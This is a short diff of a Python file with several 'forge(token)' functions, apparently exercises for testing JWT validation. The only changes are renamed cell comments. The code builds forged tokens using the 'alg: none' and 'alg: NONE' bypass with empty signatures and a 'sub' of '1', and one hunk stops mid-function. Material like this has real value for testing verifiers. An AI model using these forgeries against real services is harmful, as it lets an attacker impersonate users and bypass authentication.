@@ -221,7 +221,7 @@ def forge(token):
     return f"{header}.{encode(json.dumps({'sub': '1'}).encode())}.{signature}"
 
 
-# %% forge -> spelling
+# %% forge -> write none
 # The spelling that everybody forbids.
 def forge(token):
     return f"{encode(json.dumps({'alg': 'none'}).encode())}.{encode(json.dumps({'sub': '1'}).encode())}."
@@ -714,7 +714,7 @@ def forge(token):
     return sign({"sub": "1"}, KEY)
 
 
-# %% forge -> Which spelling of none
+# %% forge -> write none
 # The third spelling on the list.
 def forge(token):
     header, payload = {"alg": "NONE"}, {"sub": "1"}
